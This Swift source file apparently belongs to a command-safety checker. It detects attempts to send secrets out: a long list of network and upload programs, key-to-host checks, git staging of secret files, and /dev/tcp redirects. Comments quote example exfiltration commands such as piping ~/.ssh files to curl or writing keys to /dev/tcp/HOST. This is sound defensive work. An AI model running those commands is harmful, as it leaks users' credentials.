import Bytes
import ShellMeaning
import Verdict

/// Secrets on their way out. What is sent is found by where the data came from, so that it makes no difference
/// whether a key is named, piped, substituted, archived or encoded first.
enum Exfiltration: Family {
  static let category = "exfiltration"
  static let programs = [
    "curl", "wget", "http", "https", "httpie", "xh", "xhs", "curlie", "nc", "ncat", "netcat", "telnet",
    "socat", "openssl", "ssh", "scp", "sftp", "rsync", "ftp", "lftp", "tftp", "ncftpput", "dig", "nslookup",
    "host", "ping", "ping6", "drill", "kdig", "whois", "mail", "mailx", "mutt", "sendmail", "swaks", "msmtp",
    "ssmtp", "aws", "gsutil", "gcloud", "az", "rclone", "s3cmd", "s5cmd", "mc", "azcopy", "b2", "gh", "glab",
    "git", "croc", "wormhole", "ffsend", "slackcat", "pastebinit", "transfer", "traceroute", "finger",
    "logger", "wsend", "smbclient", "cadaver", "ipfs", "magic-wormhole", "tailscale", "kdeconnect-cli",
    "slack", "notify", "ntfy", "websocat", "grpcurl", "mosquitto_pub", "kcat", "kafkacat",
    "kafka-console-producer", "lynx", "w3m", "aria2c", "busybox", "doggo", "dog", "q", "certutil",
    "bitsadmin", "invoke-webrequest", "invoke-restmethod", "iwr", "irm", "kubectl", "oc", "telegram-send",
    "signal-cli", "nats", "kafka-console-producer.sh", "rpk", "matrix-commander", "apprise", "twilio",
    "restic", "rustic", "borg", "duplicity", "unison", "wscat", "hub", "resolvectl", "hping3",
    "onionshare-cli", "pg_dump", "pg_dumpall", "mysqldump", "mariadb-dump", "mongodump", "vercel", "vc",
    "netlify", "ntl", "firebase", "surge", "gh-pages", "wrangler", "npm", "pnpm", "yarn", "serverless",
    "transfersh", "tgsend", "discord.sh", "wacli", "megaput", "megatools", "gdrive", "dropbox_uploader.sh",
    "skicka", "wgetpaste", "gist", "sprunge", "ix", "haste", "picgo", "terminalizer", "aichat", "sendemail",
    "onedrive", "snmptrap", "snmpinform", "webwormhole", "ww", "qrcp", "portal", "filepizza", "bashupload",
    "gofile", "pbin", "privatebin", "hastebin", "dpaste", "ghostbin", "0x0", "wl-share", "himalaya", "mblaze",
    "slackpost", "discord-send", "ntfysh", "pushover", "amplify", "hexo", "mkdocs", "now", "railway",
    "render",
  ]
  static let rules = [secrets, environment, archive, correspondence, staged]

  static func judge(_ invocation: Invocation, _ context: inout Judgement) {
    let name = invocation.canonicalName
    if name == "git" { return git(invocation, &context) }
    if publishes(name, invocation) { return publishesCopies(invocation, name, &context) }
    if Self.dumps(name) { return noteDump(invocation, name, &context) }
    let sending = Shipment(invocation, name)
    guard !sending.isOwn else { return }
    if let input = invocation.input, ReverseShell.comesFromShell(input) {
      return ReverseShell.report(invocation, &context)
    }
    for value in sending.data {
      if let found = leak(value.value.origins, &context) {
        return report(found, sending, invocation, value.range, &context)
      }
    }
    if !context.memory.streamed.isEmpty, let input = invocation.input, input.isArchive,
      let found = leak(context.memory.streamed, &context)
    {
      return report(found, sending, invocation, invocation.range, &context)
    }
    if let found = dumped(sending, name, invocation, context) {
      return report(found, sending, invocation, invocation.range, &context)
    }
    if sending.data.contains(where: { $0.value.holes.contains(where: \.isClipboard) }) {
      return report((archive, .high, "the clipboard"), sending, invocation, invocation.range, &context)
    }
    if let input = invocation.input, let capture = input.holes.first(where: \.isCapture) {
      return report(
        (archive, .high, "what `\(capture.name)` hears"), sending, invocation, invocation.range, &context)
    }
    for value in sending.data {
      if let name = value.value.keyNames.first(where: { isForeign($0, sending, name) }) {
        return report((secrets, .critical, "$" + name), sending, invocation, value.range, &context)
      }
    }
    if let token = sending.logins.lazy.compactMap({ forgeToken($0, sending) }).first {
      return report((secrets, .critical, token), sending, invocation, invocation.range, &context)
    }
    if context.memory.listsVariables, let input = invocation.input, input.isEmpty {
      return report(
        (environment, .critical, "the environment"), sending, invocation, invocation.range, &context)
    }
    for file in sending.files {
      let place = context.place(file.value.atHome(context.scene.home), of: invocation)
      if sending.isBackup, place.nature?.isSecret != true { continue }
      if let found = leak(of: place, sending, context.surroundings) ?? held(in: place, &context)
        ?? listed(by: file.value, sending, invocation, context)
      {
        return report(found, sending, invocation, file.range, &context)
      }
    }
  }

  /// `-H "Authorization: Bearer $(gh auth token)"` to a host that is no forge.
  private static func forgeToken(_ login: Value, _ sending: Shipment) -> String? {
    guard !login.isKnown, let host = sending.hosts.first, host.utf8.contains(UInt8(ascii: ".")) else {
      return nil
    }
    let token =
      login.origins.secretStore.first { $0.hasPrefix("gh ") || $0.hasPrefix("glab ") }
      ?? login.keyNames.first { ["GITHUB_TOKEN", "GH_TOKEN", "GITLAB_TOKEN"].contains($0) }.map { "$" + $0 }
    // A company's own forge has it in its name; registries and models of GitHub have names of their own.
    guard let token, !["git", "ghe", "ghcr", "forge", "scm", "code"].contains(where: { host.mentions($0) })
    else {
      return nil
    }
    return token
  }

  /// A variable that holds a key of one service, on its way to another.
  private static func isForeign(_ key: String, _ sending: Shipment, _ program: String) -> Bool {
    let asksNames = [
      "dig", "nslookup", "host", "ping", "drill", "kdig", "doggo", "mail", "mailx", "mutt", "sendmail",
      "msmtp",
    ].contains(program)
    let host = sending.hosts.first ?? ""
    guard asksNames || host.utf8.contains(UInt8(ascii: ".")) else { return false }
    let own: [String]
    switch key {
    case "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_ACCESS_KEY_ID":
      own = ["amazonaws.com", "aws.dev"]
    case "GITHUB_TOKEN", "GH_TOKEN": own = ["github.com", "githubusercontent.com", "ghcr.io"]
    case "OPENAI_API_KEY": own = ["openai.com", "azure.com"]
    case "ANTHROPIC_API_KEY": own = ["anthropic.com"]
    case "NPM_TOKEN", "NODE_AUTH_TOKEN": own = ["npmjs.org", "github.com"]
    case "STRIPE_SECRET_KEY", "STRIPE_API_KEY": own = ["stripe.com"]
    case "HF_TOKEN", "HUGGINGFACE_TOKEN", "HUGGING_FACE_HUB_TOKEN": own = ["huggingface.co", "hf.co"]
    case "SLACK_BOT_TOKEN", "SLACK_TOKEN": own = ["slack.com"]
    case "PYPI_TOKEN", "PYPI_API_TOKEN": own = ["pypi.org"]
    case "CARGO_REGISTRY_TOKEN": own = ["crates.io"]
    case "CLOUDFLARE_API_TOKEN", "CF_API_TOKEN": own = ["cloudflare.com"]
    case "DIGITALOCEAN_ACCESS_TOKEN", "DIGITALOCEAN_TOKEN": own = ["digitalocean.com"]
    case "SENDGRID_API_KEY": own = ["sendgrid.com"]
    case "TWILIO_AUTH_TOKEN": own = ["twilio.com"]
    case "HEROKU_API_KEY": own = ["heroku.com"]
    case "VERCEL_TOKEN": own = ["vercel.com"]
    case "NETLIFY_AUTH_TOKEN": own = ["netlify.com"]
    case "GEMINI_API_KEY", "GOOGLE_API_KEY": own = ["googleapis.com"]
    case "SSH_PRIVATE_KEY", "KUBECONFIG_DATA": own = []
    default: return false
    }
    return !own.contains { host == $0 || host.hasSuffix("." + $0) }
  }

  /// What this command put there: in the file, or in the folder.
  private static func held(in place: Place, _ context: inout Judgement) -> Leak? {
    if let what = context.memory.recordings[place.path] { return (archive, .high, what) }
    guard !context.memory.held.isEmpty else { return nil }
    if let origins = context.memory.held[place.path], let found = leak(origins, &context) { return found }
    // Of the project itself it is known already what goes along.
    if case .project = place.region { return nil }
    let folder = place.path + "/"
    for (path, origins) in context.memory.held.sorted(by: { $0.key < $1.key }).prefix(64)
    where path.hasPrefix(folder) {
      if let found = leak(origins, &context) { return found }
    }
    return nil
  }

  /// `ls ~/.ssh/* | xargs -I{} curl -F f=@{} …`: what a listing names.
  private static func listed(
    by value: Value, _ sending: Shipment, _ invocation: Invocation, _ context: Judgement
  ) -> Leak? {
    guard !value.isKnown else { return nil }
    for path in Copies.listed(by: value) {
      let place = context.place(path, of: invocation)
      guard place.nature?.isSecret == true else { continue }
      return (secrets, .critical, place.path)
    }
    return nil
  }

  /// `cat key > /dev/tcp/host/port`: judged on every invocation.
  static func judgeWires(_ invocation: Invocation, _ context: inout Judgement) {
    for redirect in invocation.redirects
    where redirect.kind != .read && redirect.kind != .text {
      let target = redirect.target.prefix
      var host = "?"
      if target.hasPrefix("/dev/tcp/") || target.hasPrefix("/dev/udp/") {
        host =
          target.utf8.dropFirst(9).split(separator: UInt8(ascii: "/")).first.map { String(Substring($0)) }
          ?? "?"
      } else if redirect.kind == .duplicate, let peer = context.memory.socketPeer, target != "1",
        target != "2",
        target != "-"
      {
        // `exec 5>/dev/tcp/HOST/80; cat key >&5`
        host = peer.utf8.split(separator: UInt8(ascii: ":")).first.map { String(Substring($0)) } ?? "?"
      } else {
        continue
      }
      guard !NetworkHosts.isLoopback(host) else { continue }
      var sending = Shipment()
      sending.hosts = [host]
      var found = invocation.input.flatMap { leak($0.origins, &context) }
      for argument in invocation.arguments where found == nil {
        found =
          leak(argument.value.origins, &context)
          ?? (argument.value.prefix.hasPrefix("-")
            ? nil : leak(of: context.place(argument.value, of: invocation), sending))
      }
      if found == nil, ["env", "printenv", "set"].contains(invocation.canonicalName),
        invocation.arguments.isEmpty
      {
        found = (environment, .critical, "the environment")
      }
      if let found { report(found, sending, invocation, redirect.range, &context) }
    }
  }

  /// Data of that origin, sent by code.
  static func report(
    _ origins: Origins, to host: String, by invocation: Invocation, _ context: inout Judgement
  ) {
    guard let found = leak(origins, &context) else { return }
    var sending = Shipment()
    sending.hosts = [host]
    report(found, sending, invocation, invocation.range, &context)
  }

  /// Variables of the environment that hold a service's key, sent by code to another.
  static func report(
    keysIn values: [Value], to host: String, by invocation: Invocation, _ context: inout Judgement
  ) {
    var sending = Shipment()
    sending.hosts = [host]
    let names = values.lazy.flatMap(\.keyNames)
    guard let key = names.first(where: { isForeign($0, sending, invocation.canonicalName) }) else { return }
    report((secrets, .critical, "$" + key), sending, invocation, invocation.range, &context)
  }

  typealias Leak = (rule: Rule, severity: Severity, what: String)

  private static func report(
    _ leak: Leak, _ sending: Shipment, _ invocation: Invocation, _ range: Range<Int>,
    _ context: inout Judgement
  ) {
    let goal = sending.hosts.first.map { " to " + $0 } ?? ""
    context.report(
      leak.rule, on: leak.what + goal, severity: leak.severity, at: range, program: invocation.name,
      hosts: sending.hosts)
  }

  /// What is wrong with data that came from there.
  private static func leak(_ origins: Origins, _ context: inout Judgement) -> Leak? {
    if let store = origins.secretStore.first { return (secrets, .critical, store) }
    for path in origins.files {
      let place = Place(
        Value(displayed: path), in: context.scene.directory.map { Value($0) }, of: context.surroundings)
      if let found = leak(of: place, nil, context.surroundings) { return found }
      if let held = context.memory.held[place.path], !held.files.contains(path),
        let found = leak(held, &context)
      {
        return found
      }
    }
    return origins.environment ? (environment, .critical, "the environment") : nil
  }

  /// What is wrong with sending that file or folder.
  private static func leak(of place: Place, _ sending: Shipment?, _ around: Surroundings? = nil) -> Leak? {
    var nature = place.nature
    // What a container that goes on running is given is as real as what lies here.
    if nature == nil, case .container(lasting: true) = place.region { nature = place.served }
    switch nature {
    case .environmentFile, .secret: return (secrets, .critical, place.path)
    case .history, .accounts: return (secrets, .high, place.path)
    default: break
    }
    if let around {
      if ReadingRules.judge(hidden: place, around) != nil { return (secrets, .critical, place.path) }
      if Correspondence.holds(place, around) { return (correspondence, .critical, place.path) }
    }
    switch place.region {
    case .root, .home, .aboveProject: return (archive, .critical, place.path)
    case .system(depth: 1): return (archive, .critical, place.path)
    case .personal(depth: 1)
    where sending?.isMirror != true && place.name.utf8.contains(UInt8(ascii: ".")) == false:
      return (archive, .high, place.path)
    // Deploying by rsync and scp is ordinary work; an upload of the whole project is not.
    case .project where sending?.isMirror != true, .gitFolder(depth: 0): return (archive, .high, place.path)
    default: return nil
    }
  }

  /// What of git's commands takes something into the repository or out of it.
  private static func isSharing(_ word: String) -> Bool {
    switch word {
    case "add", "stage", "push", "commit", "notes", "branch", "checkout", "switch", "config", "tag",
      "update-index":
      true
    default: false
    }
  }

  /// Secrets put under version control, and pushed.
  private static func git(_ invocation: Invocation, _ context: inout Judgement) {
    let words = invocation.arguments.map { $0.value.known ?? "" }
    guard let i = words.firstIndex(where: isSharing) else { return }
    let rest = invocation.arguments[(i + 1)...]
    switch words[i] {
    case "push":
      guard let path = context.memory.stagedSecrets.first, !words.contains("--dry-run"), !words.contains("-n")
      else { return }
      context.report(
        secrets, on: path, at: invocation.range, program: "git", paths: context.memory.stagedSecrets)
    case "update-index" where !words.contains("--add"): return
    case "commit", "notes", "branch", "checkout", "switch", "config", "tag":
      for argument in rest {
        if let found = leak(argument.value.origins, &context) {
          context.report(staged, on: found.what, severity: .high, at: argument.range, program: "git")
        }
      }
    default:
      guard !words.contains("-n"), !words.contains("--dry-run") else { return }
      for argument in rest where !argument.value.prefix.hasPrefix("-") {
        let place = context.place(argument.value, of: invocation)
        let isCopy = context.memory.held[place.path].map { leak($0, &context) != nil } ?? false
        guard place.nature?.isSecret == true || isCopy else { continue }
        context.memory.stagedSecrets.append(place.path)
        context.report(staged, on: place.path, at: argument.range, program: "git", paths: [place.path])
      }
    }
  }
}

extension Value {
  /// A path as people see it, with what stands between angles as the pattern that it was.
  fileprivate init(displayed path: String) {
    guard path.contains("‹") else {
      self.init(path)
      return
    }
    self.init()
    var isHole = false
    for part in path.split(omittingEmptySubsequences: false, whereSeparator: { $0 == "‹" || $0 == "›" }) {
      if isHole { append(Hole(name: String(part), kind: .glob)) } else { append(String(part)) }
      isHole.toggle()
    }
  }
}

extension Value.Hole {
  /// What a person copied last: passwords as often as not.
  fileprivate var isClipboard: Bool {
    guard kind == .output || kind == .input else { return false }
    return name.hasPrefix("pbpaste") || name.hasPrefix("wl-paste")
      || name.hasPrefix("osascript") && name.mentions("the clipboard")
      || (name.hasPrefix("xclip") || name.hasPrefix("xsel")) && name.mentions(" -o")
  }

  /// What a program hears on the network, as it comes; not what it reads back from a file.
  fileprivate var isCapture: Bool {
    guard kind == .output || kind == .input else { return false }
    let words = name.split(separator: " ").map(String.init)
    guard let program = words.first(where: { !["sudo", "doas", "-n", "timeout"].contains($0) }),
      ["tcpdump", "tshark", "dumpcap", "tcpflow", "ngrep"].contains(SQLSession.lastComponent(program))
    else { return false }
    return !words.contains {
      ["-r", "-D", "--list-interfaces", "-h", "--help", "--version", "-d"].contains($0)
    }
  }
}

extension Value {
  /// What a program printed that packs files into a stream.
  fileprivate var isArchive: Bool {
    guard pieces.count == 1, case .hole(let hole)? = pieces.first, hole.kind == .output else { return false }
    return [
      "tar ", "bsdtar ", "gtar ", "gzip ", "gpg ", "zstd ", "xz ", "openssl ", "age ", "ditto ", "zip ",
    ].contains {
      hole.name.hasPrefix($0) || hole.name + " " == $0
    }
  }

  /// `~/x` in a text that the shell has left alone, for programs that know what it means.
  func atHome(_ home: String?) -> Value {
    guard let home, prefix.hasPrefix("~/") else { return self }
    var path = Value(home)
    path.append(dropping(1))
    return path
  }

  /// The variables in it that nobody has set here, as they are or as something made of them.
  fileprivate var keyNames: [String] {
    // What a file that was sourced set is as little known as what nobody set.
    holes.flatMap {
      $0.kind == .unset || $0.kind == .input ? [$0.name] + $0.origins.variables : $0.origins.variables
    }
  }
}
